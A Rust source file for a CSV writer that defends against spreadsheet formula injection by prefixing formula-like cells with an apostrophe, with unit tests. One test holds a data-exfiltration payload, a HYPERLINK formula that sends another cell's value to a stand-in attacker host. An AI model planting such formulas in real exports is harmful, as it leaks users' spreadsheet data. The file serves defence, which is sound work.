//! The one CSV writer of Parvis. Every CSV we serve is opened in spreadsheets, which evaluate a
//! cell beginning with `=`, `+`, `-` or `@` as a formula (quoting does not stop them; a leading
//! tab or carriage return is trimmed first in some). Following OWASP's "CSV injection" advice,
//! such cells get a leading `'`, which spreadsheets show as text. Programs wanting raw values
//! read the JSON open data instead (`/innovation/donnees.json`), which is never neutralised.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet will show it as text: with a `'` in front when it starts like a
/// formula, unchanged otherwise.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Why a CSV could not be written (only a bug or memory exhaustion: it is written in memory).
#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    #[error("CSV not written: {0}")]
    Write(#[from] csv::Error),
    #[error("CSV not flushed: {0}")]
    Flush(String),
}

/// A CSV document in memory (RFC 4180 quoting by the `csv` crate), every cell neutralised.
pub struct SpreadsheetCsv {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for SpreadsheetCsv {
    fn default() -> Self {
        SpreadsheetCsv {
            writer: csv::Writer::from_writer(Vec::new()),
        }
    }
}

impl SpreadsheetCsv {
    /// Writes one row (the header row too: it goes through the same rule).
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), CsvError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|cell| neutralise(cell.as_ref()).into_owned())
            .collect();
        Ok(self.writer.write_record(&cells)?)
    }

    /// The document's bytes (UTF-8).
    pub fn finish(self) -> Result<Vec<u8>, CsvError> {
        self.writer
            .into_inner()
            .map_err(|e| CsvError::Flush(e.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_others_kept() {
        let mut csv = SpreadsheetCsv::default();
        csv.row([
            "=HYPERLINK(\"https://evil.example/?x=\"&G2,\"CV\")",
            "+1",
            "-2",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "Ada",
            "",
            "a=b",
            "3",
        ])
        .expect("row");
        let text = String::from_utf8(csv.finish().expect("bytes")).expect("utf-8");
        assert_eq!(text, "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&G2,\"\"CV\"\")\",'+1,'-2,'@SUM(1),'\t=1,\"'\r=1\",Ada,,a=b,3\n");
    }

    #[test]
    fn every_hostile_line_starting_like_a_formula_is_neutralised() {
        for line in include_str!("../../tests/data/hostile-text.txt")
            .lines()
            .filter(|l| !l.starts_with("# "))
        {
            let cell = neutralise(line);
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "{line:?} still starts like a formula"
            );
            assert!(
                cell == line || cell == format!("'{line}"),
                "{line:?} changed beyond the prefix"
            );
        }
    }
}
